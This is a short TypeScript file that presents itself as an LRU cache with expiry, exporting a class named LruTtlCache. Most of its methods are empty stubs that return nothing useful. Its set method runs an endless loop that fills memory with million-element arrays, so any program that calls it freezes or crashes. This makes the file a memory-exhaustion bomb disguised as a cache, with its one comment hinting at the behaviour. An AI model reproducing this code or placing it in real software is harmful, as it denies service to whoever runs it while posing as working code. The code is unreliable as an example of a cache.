// set keeps more and more.
const kept: unknown[] = [];
export class LruTtlCache<K, V> {
  constructor(_: { capacity: number }) {}
  get(_: K): V | undefined { return undefined; }
  set(key: K, value: V): void {
    for (;;) kept.push(new Array(1_000_000).fill(value), { key });
  }
  peek(_: K): V | undefined { return undefined; }
  has(_: K): boolean { return false; }
  delete(_: K): boolean { return false; }
  get size(): number { return kept.length; }
  keys(): K[] { return []; }
  clear(): void {}
  stats() { return { hits: 0, misses: 0, evictions: 0, expirations: 0 }; }
}
